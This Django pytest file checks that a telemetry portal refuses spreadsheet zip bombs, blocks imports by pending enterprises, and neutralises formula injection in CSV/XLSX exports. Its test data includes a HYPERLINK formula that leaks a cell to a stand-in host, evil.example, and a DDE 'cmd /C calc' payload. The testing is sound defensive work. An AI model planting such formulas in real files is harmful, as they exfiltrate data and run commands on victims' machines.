"""Issue 14 on telemetry's imports and exports: spreadsheet bombs refused quickly with a
specific reason and nothing written, pending enterprises cannot import, and exported cells
never run as formulas."""

import csv
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from portal.models import Attachment, AuditEvent
from telemetry.energy import current_energy_types
from telemetry.models import DataItem, EnergyType, HistoricalEnergyImport
from telemetry.services.energy_history import import_history, template_xlsx
from telemetry.services.importexport import ImportRefused, export_csv, export_xlsx, import_items
from tests.portal.factories import member_of
from tests.portal.spreadsheet_files import sheet_bomb

from .factories import DataItemFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'
CMD = "=cmd|' /C calc'!A0"


def nothing_written():
    assert not DataItem.objects.exists()
    assert not HistoricalEnergyImport.objects.exists()
    assert not Attachment.objects.exists()
    assert not AuditEvent.objects.filter(
        event__in=["items_imported", "energy_history_imported"]
    ).exists()


def test_an_item_import_bomb_is_refused_before_parsing(member, enterprise):
    with pytest.raises(ImportRefused) as refused:
        import_items(member, enterprise, "items.xlsx", sheet_bomb(megabytes=120))
    [error] = refused.value.errors
    assert (error.row, error.column) == (0, "file")
    assert "疑似压缩炸弹" in error.reason
    nothing_written()


def test_the_pages_refuse_bombs_with_the_reason(client_for, member, enterprise):
    client = client_for(member)
    bomb = sheet_bomb(megabytes=120)
    response = client.post(
        reverse("telemetry:item_import", args=[enterprise.pk]),
        {"file": SimpleUploadedFile("items.xlsx", bomb)},
    )
    assert response.status_code == 400
    assert "疑似压缩炸弹" in response.context["errors"][0].reason
    bomb = sheet_bomb(header=("月份", "能源代码", "实物量", "计量单位"), megabytes=120)
    response = client.post(
        reverse("telemetry:history", args=[enterprise.pk]),
        {"file": SimpleUploadedFile("history.xlsx", bomb)},
    )
    assert response.status_code == 400
    assert "疑似压缩炸弹" in response.context["errors"][0].reason
    nothing_written()


def test_a_file_over_the_size_limit_is_refused_unread(client_for, member, enterprise, settings):
    settings.SPREADSHEET_MAX_BYTES = 100
    response = client_for(member).post(
        reverse("telemetry:item_import", args=[enterprise.pk]),
        {"file": SimpleUploadedFile("items.csv", b"dataCode,name\n" + b"x,y\n" * 40)},
    )
    assert response.status_code == 200
    assert "超过导入文件的上限" in str(response.context["form"].errors["file"])
    with pytest.raises(ImportRefused) as refused:
        import_history(member, enterprise, SimpleUploadedFile("h.csv", b"a,b\n" * 40))
    assert "超过导入文件的上限" in refused.value.errors[0].reason
    nothing_written()


def test_a_member_of_a_pending_enterprise_cannot_import(client_for, pending):
    applicant = pending.memberships.get().user
    content = b"dataCode,name\n010200030233000001,x\n"
    with pytest.raises(PermissionDenied):
        import_items(applicant, pending, "items.csv", content)
    with pytest.raises(PermissionDenied):
        import_history(applicant, pending, SimpleUploadedFile("h.csv", content))
    client = client_for(applicant)
    url = reverse("telemetry:item_import", args=[pending.pk])
    assert client.get(url).status_code == 403
    upload = SimpleUploadedFile("items.xlsx", sheet_bomb(megabytes=120))
    assert client.post(url, {"file": upload}).status_code == 403
    response = client.post(
        reverse("telemetry:history", args=[pending.pk]),
        {"file": SimpleUploadedFile("h.csv", content)},
    )
    assert response.status_code in (200, 403)
    assert response.context is None or response.context["form"] is None
    nothing_written()


# --- Exports ----------------------------------------------------------------------------


@pytest.fixture
def evil_items(enterprise):
    DataItemFactory(enterprise=enterprise, name=EVIL, instrument=CMD, value_min=-5, value_max=5)
    DataItemFactory(enterprise=enterprise, name="@SUM(1+1)*cmd|' /C calc'!A0", instrument="+A1+1")


def test_the_csv_export_neutralises_formulas(enterprise, evil_items):
    rows = list(csv.reader(io.StringIO(export_csv(enterprise).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells and "'" + CMD in cells and "'+A1+1" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert "-5" in cells  # a negative number stays a number


def test_the_xlsx_export_neutralises_formulas(enterprise, evil_items):
    sheet = load_workbook(io.BytesIO(export_xlsx(enterprise))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert "'" + EVIL in values and "'" + CMD in values
    assert not [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "@")]


def test_an_export_with_formula_like_names_imports_back_unchanged(member, enterprise, evil_items):
    before = sorted(DataItem.objects.values_list("name", "instrument", "value_min"))
    for content, name in ((export_xlsx(enterprise), "i.xlsx"), (export_csv(enterprise), "i.csv")):
        assert import_items(member, enterprise, name, content)["updated"] == 2
        assert sorted(DataItem.objects.values_list("name", "instrument", "value_min")) == before


def test_the_history_template_neutralises_energy_names(enterprise):
    current = current_energy_types()[0]
    EnergyType.objects.filter(pk=current.pk).update(name=EVIL)
    book = load_workbook(io.BytesIO(template_xlsx(enterprise)))
    codes = book["能源代码"]
    names = [row[1].value for row in codes.iter_rows(min_row=2)]
    assert "'" + EVIL in names
    assert not [c for row in codes.iter_rows() for c in row if c.data_type == "f"]


def test_a_reviewer_and_a_viewer_download_neutralised_files(
    client_for, reviewer, viewer, enterprise, evil_items
):
    for user in (reviewer, viewer):
        client = client_for(user)
        response = client.get(reverse("telemetry:item_export_csv", args=[enterprise.pk]))
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]
        assert "'" + EVIL in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_outsiders_still_get_404(client_for, other_enterprise, enterprise):
    client = client_for(member_of(other_enterprise))
    assert client.post(reverse("telemetry:item_import", args=[enterprise.pk])).status_code == 404
